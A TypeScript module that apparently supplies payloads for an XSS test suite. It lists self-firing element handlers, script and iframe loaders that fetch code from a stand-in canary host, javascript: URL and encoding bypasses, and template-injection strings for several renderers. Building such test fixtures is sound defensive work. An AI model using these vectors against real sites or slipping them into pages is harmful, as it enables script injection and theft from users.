/** Elements and events that run, load or lead away, for the payloads of the XSS tests. @module */
import { listed } from '../samples/listed.ts'

/** Loads from this host prove that content reached out. */
export const canaryHost = 'canary.invalid'

/** Elements whose last attribute runs without anyone touching the page. */
export const firing: readonly string[] = listed(
  'img src=x onerror¦img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA= onload',
  'image src=x onerror¦svg onload¦svg><g onload¦svg><animate attributeName=x dur=1s onbegin',
  'svg><set attributeName=x onbegin¦svg><animate attributeName=x dur=1ms onend',
  'svg><image href=x onerror¦svg><script xlink:href=x onerror',
  'svg><foreignObject><img src=x onerror¦svg><a xlink:href=javascript:pwned(1)><text onfocus',
  'math><mi tabindex=1 autofocus onfocus¦body onload¦body onpageshow¦body onfocus¦body onresize',
  'frameset onload¦iframe onload¦iframe src=about:blank onload¦iframe srcdoc=x onload',
  'object data=x onerror¦object data=x onload¦embed src=x onload¦video src=x onerror',
  'video><source src=x onerror¦audio src=x onerror¦audio autoplay src=x onloadstart',
  'video><track default src=x onerror¦link rel=stylesheet href=x onerror',
  'link rel=stylesheet href=data:text/css, onload¦script src=x onerror',
  'script src=data:text/javascript, onload¦style onload¦input type=image src=x onerror',
  'input autofocus onfocus¦textarea autofocus onfocus¦select autofocus onfocus',
  'button autofocus onfocus¦a href=# autofocus onfocus¦x tabindex=1 autofocus onfocus',
  'div contenteditable autofocus onfocusin¦input autofocus onblur¦details open ontoggle',
  'dialog open onfocus¦marquee onstart',
  'style>@keyframes y{}</style><x style=animation-name:y onanimationstart',
  'style>@keyframes y{}</style><x style=animation:y_1ms onanimationend',
  'x style=display:block;content-visibility:auto oncontentvisibilityautostatechange',
  'x style=transition:color_1ms;color:red ontransitionrun',
)

export const events: readonly string[] = `
  click dblclick auxclick contextmenu mousedown mouseup mouseover mouseenter mouseleave
  mousemove mouseout wheel pointerdown pointerup pointerover pointerenter pointerrawupdate
  gotpointercapture touchstart keydown keyup keypress focus focusin focusout blur beforeinput
  input change submit reset invalid search select selectstart copy cut paste beforecopy drag
  dragstart dragenter dragover drop load error toggle beforetoggle cancel close scroll scrollend
  resize animationstart animationiteration transitionend webkitanimationstart begin beforematch
  slotchange securitypolicyviolation message popstate unload beforeunload pagehide storage
  online play canplay timeupdate ended
`
  .trim()
  .split(/\s+/)

export const tags: readonly string[] = `
  a abbr b br blockquote button caption center code dd del details dfn dialog div dl em fieldset
  figure font form h1 hr i img input ins kbd label li mark menu meter nav ol optgroup output p
  picture pre progress q s samp search slot small span strong sub summary sup svg table td th
  time tr tt u ul var wbr x x-y math mtext title template xmp
`
  .trim()
  .split(/\s+/)

export const loaders: readonly string[] = [
  `<script src=//${canaryHost}/a.js></script>`,
  `<script type=module src=//${canaryHost}/a.js></script>`,
  `<script>import('//${canaryHost}/a.js')</script>`,
  '<script>pwned(1)</script>',
  '<script type=text/javascript>pwned(1)//',
  '<script\n>pwned(1)</script\n>',
  '<svg><script>pwned(1)</script></svg>',
  '<svg><script>pwned&#40;1)</script></svg>',
  `<svg><script href=//${canaryHost}/a.js /></svg>`,
  '<svg><a href=javascript:pwned(1)><text y=20>x</text></a></svg>',
  '<svg><a><animate attributeName=href values=javascript:pwned(1) /><text y=20>x</text></a></svg>',
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='pwned(1)'/></svg>#x"/></svg>`,
  '<math><maction actiontype=statusline#x xlink:href=javascript:pwned(1)>x</maction></math>',
  '<math href=javascript:pwned(1)>x</math>',
  `<link rel=stylesheet href=//${canaryHost}/a.css>`,
  `<link rel=preload as=script href=//${canaryHost}/a.js>`,
  `<link rel=modulepreload href=//${canaryHost}/a.js>`,
  `<link rel=prefetch href=//${canaryHost}/a>`,
  `<link rel=manifest href=//${canaryHost}/a>`,
  `<style>@import '//${canaryHost}/a.css'</style>`,
  `<style>@font-face{font-family:a;src:url(//${canaryHost}/a)}*{font-family:a}</style>`,
  `<b style="background:url(javascript:pwned(1));x:expression(pwned(1))">x</b>`,
  `<iframe src=//${canaryHost}/></iframe>`,
  '<iframe src=javascript:pwned(1)></iframe>',
  '<iframe srcdoc="<script>parent.pwned(1)</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.pwned(1)&gt;"></iframe>',
  '<iframe src="data:text/html,<script>parent.pwned(1)</script>"></iframe>',
  '<frameset><frame src=javascript:pwned(1)></frameset>',
  '<object data=javascript:pwned(1)></object>',
  `<object data=//${canaryHost}/></object>`,
  `<object type=text/html data="data:text/html,<script>parent.pwned(1)</script>"></object>`,
  `<embed src=//${canaryHost}/>`,
  '<embed src=javascript:pwned(1)>',
  `<base href=//${canaryHost}/>`,
  '<base href=javascript:/a/-pwned(1)///////><a href=../x>x</a>',
  `<meta http-equiv=refresh content="0;url=//${canaryHost}/">`,
  '<meta http-equiv=refresh content="0;url=javascript:pwned(1)">',
  '<meta http-equiv=refresh content="0;url=data:text/html,<script>pwned(1)</script>">',
  '<meta charset=utf-7>+ADw-script+AD4-pwned(1)+ADw-/script+AD4-',
  `<form action=//${canaryHost}/><button autofocus>x</button></form>`,
  '<form action=javascript:pwned(1)><input type=submit value=x></form>',
  '<form><button formaction=javascript:pwned(1)>x</button></form>',
  '<form id=x></form><button form=x formaction=javascript:pwned(1)>x</button>',
  '<input type=image src=x formaction=javascript:pwned(1)>',
  `<video><source src=//${canaryHost}/a></video>`,
  `<video src=//${canaryHost}/a poster=javascript:pwned(1)></video>`,
  `<audio src=//${canaryHost}/a autoplay></audio>`,
  `<track src=//${canaryHost}/a>`,
  ...listed(
    '<img src=javascript:pwned(1)>¦<img srcset="javascript:pwned(1)">',
    '<a href=javascript:pwned(1)>x</a>¦<a href="javascript&colon;pwned(1)">x</a>',
    '<a href="java&Tab;script:pwned(1)">x</a>¦<a href="&NewLine;javascript:pwned(1)">x</a>',
    '<a href=x ping=//canary.invalid/>x</a>¦<a href=# onclick=pwned(1)>x</a>',
    '<area href=javascript:pwned(1)><map name=x><area href=javascript:pwned(1) shape=default></map>',
    '<button popovertarget=x>x</button><b id=x popover onbeforetoggle=pwned(1)>x</b>',
    '<button commandfor=x command=show-popover>x</button><b id=x popover ontoggle=pwned(1)>x</b>',
    '<input type=hidden oncontentvisibilityautostatechange=pwned(1) style=content-visibility:auto>',
    '<div id=x tabindex=1 onfocus=pwned(1)></div><a href=#x autofocus>x</a>',
    '<slot name=x onslotchange=pwned(1)>x</slot>',
    '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["//canary.invalid/"]}]}</script>',
    '<script type=importmap>{"imports":{"x":"//canary.invalid/a.js"}}</script>',
  ),
]

export const templates: readonly string[] = listed(
  '{{pwned(1)}}¦{{constructor.constructor("pwned(1)")()}}¦{{$on.constructor("pwned(1)")()}}',
  '\x24{pwned(1)}¦#{pwned(1)}¦<%= pwned(1) %>¦[[pwned(1)]]',
  '{%raw%}<script>pwned(1)</script>{%endraw%}',
  'graph TD\nA["<img src=x onerror=pwned(1)>"] --> B\nclick A "javascript:pwned(1)"',
  '%%{init: {"themeCSS": "*{background:url(//canary.invalid/)}", "securityLevel": "loose"}}%%\ngraph TD\nA',
  '\\href{javascript:pwned(1)}{x}¦\\url{javascript:pwned(1)}',
  '\\htmlStyle{background:url(//canary.invalid)}{x}¦\\includegraphics{//canary.invalid/a}',
  '\\text{<img src=x onerror=pwned(1)>}¦\\unicode{<script>pwned(1)</script>}',
)
